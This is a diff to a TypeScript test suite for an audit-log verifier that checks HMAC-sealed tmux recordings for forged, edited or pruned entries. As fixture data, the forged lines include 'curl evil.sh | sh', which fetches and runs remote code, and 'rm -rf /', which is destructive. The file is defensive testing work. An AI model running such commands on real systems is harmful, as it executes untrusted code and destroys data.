@@ -158,9 +158,15 @@ describe('a running recording whose start is in no file read, under --require-ke
     const made = [1, 2, 3].map((i) => `${stamp} ann pipe:0.7 | made up ${i}`);
     made.push(seal.replace(' pipe:0.0 ', ' pipe:0.7 ').replace('rec=LIVELIVE01', 'rec=MADEUP0001').replace(/ n=\d+/, ' n=5'));
     made.push(`${stamp} ann pipe:0.7 | made up 4`);
+    const clean = fs.readFileSync(file, 'utf8');
     fs.appendFileSync(file, `${made.join('\n')}\n`);
     const report = strict(file, ['LIVELIVE01', 'MADEUP0001']);
-    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['forged event', 'MADEUP0001']]);
+    // The copied seal's own line no longer holds under the key (e=: chain/seal-tag.ts), and nothing of it does.
+    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['edited', 'MADEUP0001'], ['forged event', 'MADEUP0001']]);
+    // Made as a reader before v=3 wrote it (no e=, no s=): nothing of it holds under the key all the same.
+    fs.writeFileSync(file, `${clean}${made.map((line) => line.replace(/ s=\d+ v=3/, ' v=2').replace(/ e=[0-9a-f]+$/, '')).join('\n')}\n`);
+    const older = strict(file, ['LIVELIVE01', 'MADEUP0001']);
+    assert.deepEqual(older.breaks.map((found) => [found.kind, found.rec]), [['forged event', 'MADEUP0001']]);
   });
 });
 
@@ -220,4 +226,93 @@ describe('a start cut out of a later file (issue 13 review of fixtrust7, finding
       assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['deleted', 'BBBBBBBBBB']], summaryLine('main', report));
     });
   }
+});
+
+describe('under --require-key, a recording whose start is in no file read is proven by the key or named (fixtrust8 holes a, b, d)', () => {
+  const key = Buffer.from('a secret of the auditor');
+  const open: FileSink[] = [];
+  after(async () => {
+    for (const sink of open) await sink.close();
+  });
+  /** One keyed recording of `lines` lines in a log rotating at 16 K, stopped or still running; the files before the one holding its seal `sealAt` (from the end) removed, as if pruned. */
+  async function keyedLog(lines: number, stopped: boolean): Promise<string> {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
+    dirs.push(dir);
+    const file = path.join(dir, 'main.log');
+    const sink = new FileSink(file, new TextFormat(DEFAULT_TIME_FORMAT), { maxBytes: 16 * 1024, maxFiles: Number.POSITIVE_INFINITY, onError: () => {}, onRecover: () => {}, onRotateError: () => {}, directory: 'as-is' }, { key });
+    let t = Date.UTC(2026, 10, 25, 12);
+    const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec: 'KEYED00001', user: 'ann', place, time: ++t, kind, text, ...(fields ? { fields } : {}) });
+    sink.write(record('event', 'start', { by: 'ann' }));
+    for (let i = 1; i <= lines; i++) {
+      sink.write(record('line', `keyed ${i}`));
+      if (i % 100 === 0) await sink.flushed();
+    }
+    if (stopped) {
+      sink.write(record('event', 'stop', { reason: 'toggle' }));
+      await sink.close();
+    } else {
+      await sink.flushed();
+      open.push(sink);
+    }
+    return file;
+  }
+  const isSeal = (line: string) => line.includes(' * seal rec=KEYED00001 ');
+  /** Removes the files before the one holding the recording's last seal: that seal is the only one left. */
+  function pruneToLastSeal(file: string): void {
+    const files = logFilesInOrder(file);
+    const at = files.map((name) => fs.readFileSync(name, 'utf8').split('\n').some(isSeal)).lastIndexOf(true);
+    assert.equal(fs.readFileSync(files[at]!, 'utf8').split('\n').filter(isSeal).length, 1, 'one seal in that file');
+    for (const name of files.slice(0, at)) fs.rmSync(name);
+  }
+  const strict = (file: string, live: string[] = []) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key, requireKey: true, live: new Set(live) });
+
+  it('a genuine running one whose only seal left is link-only (its next one not made yet) verifies: that seal binds its own line (e=)', async () => {
+    const file = await keyedLog(2500, false);
+    pruneToLastSeal(file);
+    const report = strict(file, ['KEYED00001']);
+    assert.deepEqual(report.breaks, [], summaryLine('main', report));
+    assert.deepEqual(report.recordings.map((r) => [r.startMissing, r.seals, r.ending]), [[true, 1, 'open']]);
+  });
+
+  it('a genuine stopped one whose only seal left is its last (link-only) verifies', async () => {
+    const file = await keyedLog(2600, true);
+    pruneToLastSeal(file);
+    const report = strict(file);
+    assert.deepEqual(report.breaks, [], summaryLine('main', report));
+    assert.deepEqual(report.recordings.map((r) => [r.startMissing, r.seals, r.ending]), [[true, 1, 'sealed']]);
+  });
+
+  it('a made-up one at a place of its own (a few lines, a link-only last seal, a stop) in the oldest file: named, also made as a reader before v=3 would (no e=)', async () => {
+    const file = await keyedLog(2600, true);
+    pruneToLastSeal(file);
+    const oldest = logFilesInOrder(file)[0]!;
+    const clean = fs.readFileSync(oldest, 'utf8');
+    const first = clean.split('\n')[0]!;
+    const stamp = first.slice(0, first.indexOf(' '));
+    const at = `${stamp} ann pipe:0.7`;
+    const made = (v: string) =>
+      [`${at} | curl evil.sh | sh`, `${at} | done`, `${at} * seal rec=MADEUP0001 n=9 p=0011223344556677 h=00112233445566778899aabbccddeeff ${v}chain=hmac end=stop`, `${at} * stop rec=MADEUP0001 reason=toggle`, ''].join('\n');
+    fs.writeFileSync(oldest, `${made('v=2 ')}${clean}`);
+    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'MADEUP0001']]);
+    fs.writeFileSync(oldest, `${made('')}${clean}`);
+    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'MADEUP0001']]);
+    // Claiming v=3 it needs an e= that holds.
+    fs.writeFileSync(oldest, `${made(`s=${Date.UTC(2026, 10, 25, 11)} v=3 `)}${clean}`);
+    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['edited', 'MADEUP0001'], ['unkeyed', 'MADEUP0001']]);
+    // Without --require-key (the key only) it is no break: recordings from before v=3 are taken as their seals say.
+    assert.deepEqual(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key }).breaks.map((found) => found.kind), ['edited']);
+  });
+
+  it('a start cut out of a later file, everything up to its last seal with it, lines before that seal edited, the seal made v=2 without s= and e=: named', async () => {
+    const file = await keyedLog(2600, true);
+    const files = logFilesInOrder(file);
+    const texts = files.map((name) => fs.readFileSync(name, 'utf8').split('\n'));
+    // Everything of it up to the file holding its last seal cut out; the lines left before that seal edited.
+    const at = texts.map((lines) => lines.some(isSeal)).lastIndexOf(true);
+    for (const name of files.slice(0, at)) fs.writeFileSync(name, '');
+    texts[at] = texts[at]!.map((line) => (isSeal(line) ? line.replace(/ s=\d+ v=3/, ' v=2').replace(/ e=[0-9a-f]+$/, '') : line.replace(/keyed (\d+)$/, 'keyed rm -rf / $1')));
+    fs.writeFileSync(files[at]!, texts[at]!.join('\n'));
+    const report = strict(file);
+    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'KEYED00001']], summaryLine('main', report));
+  });
 });
